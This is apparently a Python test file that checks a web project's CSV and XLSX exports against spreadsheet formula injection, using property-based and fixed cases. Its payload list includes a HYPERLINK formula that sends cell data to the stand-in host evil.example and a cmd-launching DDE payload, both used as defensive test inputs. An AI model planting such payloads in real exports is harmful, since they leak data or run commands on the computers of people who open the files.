"""Spreadsheet exports never hand a visitor's text to a spreadsheet as a formula."""

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from madina.core import exports

RUNS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"ici\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1",
        "\r=1"]


@given(st.text())
def test_a_cell_reads_back_as_typed_and_never_starts_a_formula(text):
    cell = exports.safe_cell(text)
    assert not cell.startswith(exports.FORMULA_STARTS)
    assert cell == text or cell == "'" + text


def test_numbers_and_plain_text_are_left_alone():
    assert exports.safe_row([-5, 1.5, None, True, "Sfax", "ساقية الدائر"]) == [-5, 1.5, None, True, "Sfax", "ساقية الدائر"]


def test_csv_quotes_every_formula_start():
    text = "".join(exports.csv_lines([["name"], *[[value] for value in RUNS]]))
    assert text.startswith(exports.BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(exports.BOM))))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in RUNS]


def test_xlsx_keeps_formula_text_as_text():
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes("s", [["name"], *[[value] for value in RUNS], [3]]))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*(value.replace("\r", "\n") for value in RUNS), 3]  # XML reads CR as LF
    assert [c.data_type for c in cells] == ["s"] * len(RUNS) + ["n"]


def test_no_module_but_this_one_writes_a_spreadsheet_file():
    """Every CSV and XLSX download goes through core.exports, so every cell of every export is neutralised. The one
    other writer is a Pabulib file (madina.pb), a data format whose project names must stay exact."""
    source = Path(exports.__file__).resolve().parents[1]
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter|text/csv")
    found = {str(path.relative_to(source)) for path in source.rglob("*.py")
             if "migrations" not in path.parts and writers.search(path.read_text(encoding="utf-8"))}
    assert found == {"core/exports.py", "pb/pabulib.py"}
